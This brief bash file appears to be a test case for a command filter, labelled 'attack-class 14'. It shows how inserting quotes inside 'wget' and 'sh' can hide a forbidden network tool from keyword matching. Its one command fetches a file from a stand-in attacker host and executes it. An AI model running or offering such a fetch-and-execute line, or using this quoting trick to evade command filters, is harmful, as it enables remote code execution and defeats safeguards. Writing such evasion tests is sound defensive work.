#!/usr/bin/env bash
# attack-class: 14
# title: w"g"et with quoted middle letter
# why: quote removal hides a forbidden network tool

w"g"et -q http://evil.example/x -O /tmp/x && s'h' /tmp/x
